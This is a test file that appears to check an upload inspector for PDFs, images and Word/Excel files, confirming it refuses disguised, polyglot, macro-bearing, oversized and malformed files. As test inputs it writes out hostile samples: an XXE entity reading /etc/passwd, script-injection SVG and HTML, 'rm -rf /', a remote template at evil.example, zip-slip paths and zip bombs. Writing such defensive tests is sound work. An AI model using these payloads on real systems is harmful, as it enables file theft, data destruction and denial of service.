import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type InspectedFile, inspectFile } from './inspect.ts';
import { type FilePolicy, defaultFilePolicy, filePolicyOn } from './policy.ts';
import { contentTypes, docxWith, jpeg, pdf, png, pngChunk, relation, xlsxWith, zipOf } from './samples.ts';

let directory: string;
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'chuan-files-'));
});
afterAll(() => rm(directory, { recursive: true, force: true }));

/** The answer from memory and from disk must be one. */
async function inspect(
  bytes: Uint8Array,
  name: string,
  policy: FilePolicy = defaultFilePolicy,
): Promise<InspectedFile | string> {
  const path = join(directory, 'file');
  await writeFile(path, bytes);
  const codeOf = (error: Error) => error.message;
  const fromMemory = await inspectFile(bytes, name, policy).catch(codeOf);
  const fromDisk = await inspectFile({ path }, name, policy).catch(codeOf);
  expect(fromDisk).toEqual(fromMemory);
  return fromMemory;
}

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576);
const small: FilePolicy = { ...defaultFilePolicy, maxParts: 20, maxUnfoldedBytes: 1_048_576 };
const rel = (content: string | Uint8Array) => ({ name: 'word/_rels/settings.xml.rels', content });

describe('a file that may come in', () => {
  it.each([
    ['a PDF', pdf(), 'Đơn đề nghị.pdf', 'pdf'],
    ['a PDF saved twice', Buffer.concat([pdf(), Buffer.from('2 0 obj\nendobj\n%%EOF')]), 'a.pdf', 'pdf'],
    ['a PNG', png(), 'anh.png', 'png'],
    ['a JPEG', jpeg(), 'anh.jpg', 'jpeg'],
    ['a JPEG under its long extension', jpeg(), 'anh.JPEG', 'jpeg'],
    [
      'a JPEG with a large profile before its frame',
      jpeg(800, 600, Buffer.concat([Buffer.from([0xff, 0xe2, 0xff, 0xff]), Buffer.alloc(65_533)])),
      'a.jpg',
      'jpeg',
    ],
    ['a Word document', docxWith(), 'Don.docx', 'docx'],
    [
      'a Word document with pictures and links',
      docxWith(
        { name: 'word/media/image1.svg', content: '<svg/>' },
        rel(relation('hyperlink', 'Target="https://example.vn" TargetMode="External"')),
      ),
      'Don.docx',
      'docx',
    ],
    ['an Excel workbook', xlsxWith(), 'bang.xlsx', 'xlsx'],
  ])('%s', async (_, bytes, name, kind) => {
    expect(await inspect(bytes, name)).toMatchObject({ kind, sizeBytes: bytes.length });
  });

  it('bears a cleaned name and its own media type', async () => {
    const file = await inspect(pdf(), '../..\\Giấy\u202e tờ.PDF');
    expect(file).toMatchObject({ name: 'Giấy tờ.PDF', mediaType: 'application/pdf' });
  });
});

describe('a file whose content is not what its name says', () => {
  it.each([
    ['HTML as PDF', Buffer.from('<!doctype html><script>alert(1)</script>'), 'a.pdf', 'file.type_mismatch'],
    [
      'SVG as PNG',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      'a.png',
      'file.type_mismatch',
    ],
    [
      'XML as PDF',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
      'a.pdf',
      'file.type_mismatch',
    ],
    ['a Windows program as PDF', Buffer.from('MZ\x90\0\x03'), 'a.pdf', 'file.type_mismatch'],
    ['a Linux program as JPEG', Buffer.from('\x7fELF\x02\x01\x01'), 'a.jpg', 'file.type_mismatch'],
    ['a shell script as PDF', Buffer.from('#!/bin/sh\nrm -rf /'), 'a.pdf', 'file.type_mismatch'],
    ['a PNG as JPEG', png(), 'a.jpg', 'file.type_mismatch'],
    ['a JPEG as PDF', jpeg(), 'a.pdf', 'file.type_mismatch'],
    ['a PDF as Word', pdf(), 'a.docx', 'file.type_mismatch'],
    ['Word as Excel', docxWith(), 'a.xlsx', 'file.type_mismatch'],
    ['Excel as Word', xlsxWith(), 'a.docx', 'file.type_mismatch'],
    ['a plain zip as Word', zipOf([{ name: 'a.txt', content: 'a' }]), 'a.docx', 'file.type_mismatch'],
    [
      'a document that is Word and Excel',
      zipOf([contentTypes('docx', String(contentTypes('xlsx').content))]),
      'a.docx',
      'file.type_mismatch',
    ],
    [
      'an old or encrypted Office file',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      'a.docx',
      'file.type_mismatch',
    ],
    ['plain text as PDF', Buffer.from('xin chào'), 'a.pdf', 'file.type_mismatch'],
    ['one byte', Buffer.from('%'), 'a.pdf', 'file.type_mismatch'],
    [
      'a PDF whose header does not come first',
      Buffer.concat([Buffer.from('GIF89a'), pdf()]),
      'a.pdf',
      'file.type_mismatch',
    ],
    ['RTF as Word', Buffer.from('{\\rtf1}'), 'a.docx', 'file.type_mismatch'],
    ['a RAR as Word', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'), 'a.docx', 'file.type_mismatch'],
    ['an animation as PNG', png(8, 8, pngChunk('acTL', Buffer.alloc(8))), 'a.png', 'file.type_mismatch'],
  ])('%s is refused', async (_, bytes, name, code) => {
    expect(await inspect(bytes, name)).toBe(code);
  });

  it.each([
    'a.svg',
    'a.html',
    'a.exe',
    'a.pdf.exe',
    'a.docm',
    'a.xlsm',
    'a.doc',
    'a.zip',
    'a.js',
    'a.gif',
    'a',
    '.pdf',
    'a.pdf ',
    'pdf',
    'a.pdf/',
    'a.pdf\u202e',
  ])('the name %j is judged by its last visible extension', async (name) => {
    const isPdf = ['a.pdf ', 'a.pdf/', 'a.pdf\u202e'].includes(name);
    const answer = await inspect(pdf(), name);
    expect(typeof answer === 'string' ? answer : answer.kind).toBe(isPdf ? 'pdf' : 'file.type_not_allowed');
  });
});

describe('a file with two faces', () => {
  const zip = zipOf([{ name: 'Main.class', content: 'x' }]);
  it.each([
    ['a PDF that is also a zip', Buffer.concat([pdf(), zip]), 'a.pdf', 'file.hidden_content'],
    ['a JPEG that is also a zip', Buffer.concat([jpeg(), zip]), 'a.jpg', 'file.hidden_content'],
    ['a PNG that is also a zip', Buffer.concat([png(), zip]), 'a.png', 'file.hidden_content'],
    ['a PNG with something behind its end', Buffer.concat([png(), Buffer.from('x')]), 'a.png', 'file.damaged'],
    [
      'a PDF with a page of script behind its end',
      Buffer.concat([pdf(), Buffer.from('<script>1</script>')]),
      'a.pdf',
      'file.hidden_content',
    ],
    [
      'a PDF with script before its objects',
      Buffer.from(String(pdf()).replace('\n', '\n<html><script>1</script>\n')),
      'a.pdf',
      'file.hidden_content',
    ],
    ['a PDF without an end', Buffer.from('%PDF-1.7\n1 0 obj'), 'a.pdf', 'file.damaged'],
    [
      'a JPEG with a PDF in a comment',
      jpeg(8, 8, Buffer.concat([Buffer.from([0xff, 0xfe, 0, 12]), Buffer.from('%PDF-1.7 x')])),
      'a.jpg',
      'file.hidden_content',
    ],
    [
      'a JPEG with script in a comment',
      jpeg(8, 8, Buffer.concat([Buffer.from([0xff, 0xfe, 0, 10]), Buffer.from('<script>')])),
      'a.jpg',
      'file.hidden_content',
    ],
    ['a zip with bytes before its directory', prefixed(docxWith()), 'a.docx', 'file.hidden_content'],
    [
      'a Word document with a page behind it',
      Buffer.concat([docxWith(), Buffer.from('<script>')]),
      'a.docx',
      'file.damaged',
    ],
  ])('%s is refused', async (_, bytes, name, code) => {
    expect(await inspect(bytes, name)).toBe(code);
  });

  /** Bytes slipped in between the parts and the directory, which the directory does not cover. */
  function prefixed(bytes: Buffer): Buffer {
    const at = bytes.indexOf('PK\x01\x02', 0, 'latin1');
    const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1');
    return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at, end), Buffer.from('hidden'), bytes.subarray(end)]);
  }
});

describe('a picture', () => {
  it.each([
    ['a PNG flood', png(50_000, 50_000), 'a.png', 'file.picture_too_large'],
    ['a JPEG flood', jpeg(65_535, 65_535), 'a.jpg', 'file.picture_too_large'],
    ['a PNG of the widest claim', png(0xffffffff, 0xffffffff), 'a.png', 'file.picture_too_large'],
    ['a PNG without width', png(0, 8), 'a.png', 'file.damaged'],
    ['a JPEG without height', jpeg(8, 0), 'a.jpg', 'file.damaged'],
    ['a PNG cut short', png().subarray(0, 50), 'a.png', 'file.damaged'],
    [
      'a PNG whose chunk runs past the end',
      Buffer.concat([png().subarray(0, 33), Buffer.from('7fffffff49444154', 'hex')]),
      'a.png',
      'file.damaged',
    ],
    ['a JPEG cut short', jpeg().subarray(0, 24), 'a.jpg', 'file.damaged'],
    [
      'a JPEG that never frames',
      Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(100, 0xff)]),
      'a.jpg',
      'file.damaged',
    ],
    [
      'a JPEG segment of no length',
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0, 0, 0, 0, 0, 0]),
      'a.jpg',
      'file.damaged',
    ],
  ])('is refused: %s', async (_, bytes, name, code) => {
    expect(await inspect(bytes, name)).toBe(code);
  });

  it('may be as large as the policy says', async () => {
    const policy = { ...defaultFilePolicy, maxPixels: 10_000 };
    expect(await inspect(png(100, 100), 'a.png', policy)).toMatchObject({ kind: 'png' });
    expect(await inspect(png(100, 101), 'a.png', policy)).toBe('file.picture_too_large');
  });
});

describe('an office document', () => {
  const external = 'Target="http://evil.example/t.dotm" TargetMode="External"';
  const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  it.each([
    ['macros', docxWith({ name: 'word/vbaProject.bin', content: 'x' }), 'file.has_macros'],
    ['macros under another case', docxWith({ name: 'word/VBAPROJECT.BIN', content: 'x' }), 'file.has_macros'],
    ['ActiveX', docxWith({ name: 'word/activeX/activeX1.xml', content: '<x/>' }), 'file.has_macros'],
    [
      'a macro content type',
      zipOf([contentTypes('docx', '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')]),
      'file.has_macros',
    ],
    [
      'a macro content type in references',
      zipOf([
        contentTypes(
          'docx',
          '<Override ContentType="application/vnd.ms-word.document.&#109;acro&#x45;nabled.main+xml"/>',
        ),
      ]),
      'file.has_macros',
    ],
    ['a program inside', docxWith({ name: 'word/embeddings/setup.exe', content: 'MZ' }), 'file.unsafe_content'],
    ['a web page inside', docxWith({ name: 'word/afchunk.html', content: '<script>' }), 'file.unsafe_content'],
    ['a template from elsewhere', docxWith(rel(relation('attachedTemplate', external))), 'file.unsafe_content'],
    [
      'a template from elsewhere in UTF-16',
      docxWith(rel(utf16(relation('attachedTemplate', external)))),
      'file.unsafe_content',
    ],
    [
      'a template from elsewhere in references',
      docxWith(rel(relation('attachedTempl&#97;te', external.replace('External', '&#x45;xternal')))),
      'file.unsafe_content',
    ],
    ['an object from elsewhere', docxWith(rel(relation('oleObject', external))), 'file.unsafe_content'],
    [
      'relations in UTF-16 without a mark',
      docxWith(rel(Buffer.from(relation('attachedTemplate', external), 'utf16le'))),
      'file.damaged',
    ],
    [
      'an entity',
      docxWith({ name: 'word/x.xml', content: '<!DOCTYPE a [<!ENTITY x "y">]><a/>' }),
      'file.unsafe_content',
    ],
    ['a symbolic link', docxWith({ name: 'word/link', content: '/etc/passwd', mode: 0o120777 }), 'file.unsafe_content'],
    ['a path that climbs out', docxWith({ name: '../../evil.xml', content: '<x/>' }), 'file.damaged'],
    ['an absolute path', docxWith({ name: '/etc/evil.xml', content: '<x/>' }), 'file.damaged'],
    ['a Windows path', docxWith({ name: '..\\evil.xml', content: '<x/>' }), 'file.damaged'],
    ['an encrypted part', docxWith({ name: 'word/x.xml', content: '<x/>', flags: 1 }), 'file.encrypted'],
    ['a part twice', docxWith({ name: 'word/document.xml', content: '<x/>' }), 'file.damaged'],
    ['a part twice in another case', docxWith({ name: 'WORD/document.xml', content: '<x/>' }), 'file.damaged'],
    [
      'too many parts',
      docxWith(...Array.from({ length: 20 }, (_, index) => ({ name: `word/${index}.xml`, content: '<x/>' }))),
      'file.archive_too_large',
    ],
    ['a bomb', docxWith({ name: 'word/bomb.xml', content: zeros(2) }), 'file.archive_too_large'],
    [
      'a bomb in many pieces',
      docxWith(...Array.from({ length: 6 }, (_, index) => ({ name: `word/${index}.bin`, content: zeros(0.25) }))),
      'file.archive_too_large',
    ],
    [
      'a bomb that lies about its size',
      docxWith({ name: 'word/bomb.bin', content: zeros(4), claimedSize: 10 }),
      'file.damaged',
    ],
    ['a part shorter than it says', docxWith({ name: 'word/x.bin', content: 'x', claimedSize: 1_000 }), 'file.damaged'],
    ['a cut end', docxWith().subarray(0, -30), 'file.damaged'],
    [
      'a broken directory',
      Buffer.concat([docxWith().subarray(0, -22), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18, 1)]),
      'file.damaged',
    ],
  ])('is refused with %s', async (_, bytes, code) => {
    expect(await inspect(bytes, 'a.docx', small)).toBe(code);
  });

  it('is refused in Excel with a macro sheet', async () => {
    expect(await inspect(xlsxWith({ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }), 'a.xlsx')).toBe(
      'file.has_macros',
    );
  });

  it('unfolds a bomb of the full size within the limit of memory', async () => {
    const bomb = docxWith({ name: 'word/bomb.bin', content: zeros(64) });
    const before = process.memoryUsage().rss;
    expect(await inspect(bomb, 'a.docx', { ...defaultFilePolicy, maxUnfoldedBytes: 32 * 1_048_576 })).toBe(
      'file.archive_too_large',
    );
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1_048_576);
  });
});

describe('limits', () => {
  it('refuses an empty file', async () => {
    expect(await inspect(Buffer.alloc(0), 'a.pdf')).toBe('file.empty');
  });

  it('refuses a file over the size of the policy', async () => {
    const policy = { ...defaultFilePolicy, maxBytes: 1_024 };
    expect(await inspect(pdf(' '.repeat(2_000)), 'a.pdf', policy)).toBe('file.too_large');
  });

  it('takes only the kinds of the policy', async () => {
    const policy: FilePolicy = { ...defaultFilePolicy, kinds: ['pdf'] };
    expect(await inspect(png(), 'a.png', policy)).toBe('file.type_not_allowed');
    expect(await inspect(pdf(), 'a.pdf', policy)).toMatchObject({ kind: 'pdf' });
  });

  it('follows the policy in force on the day', () => {
    const pdfOnly: FilePolicy = { ...defaultFilePolicy, validFrom: '2027-01-01', kinds: ['pdf'] };
    expect(filePolicyOn([pdfOnly], '2026-12-31')).toBe(defaultFilePolicy);
    expect(filePolicyOn([pdfOnly, defaultFilePolicy], '2027-01-01')).toBe(pdfOnly);
  });

  it('answers with a code whatever the bytes', async () => {
    const heads = [pdf(), png(), jpeg(), docxWith(), xlsxWith()].map((bytes) => Buffer.from(bytes));
    const damage = fc.record({
      sample: fc.constantFrom(...heads),
      cutAt: fc.nat(3_000),
      changes: fc.array(fc.tuple(fc.nat(3_000), fc.nat(255)), { maxLength: 8 }),
      name: fc.constantFrom('a.pdf', 'a.png', 'a.jpg', 'a.docx', 'a.xlsx'),
    });
    await fc.assert(
      fc.asyncProperty(damage, async ({ sample, cutAt, changes, name }) => {
        const bytes = Buffer.from(sample.subarray(0, Math.max(1, cutAt)));
        for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value;
        const answer = await inspectFile(bytes, name, defaultFilePolicy).catch((error: Error) => error);
        if (answer instanceof Error) expect(answer.message).toMatch(/^file\./);
        else expect(name.endsWith(answer.kind === 'jpeg' ? 'jpg' : answer.kind)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});
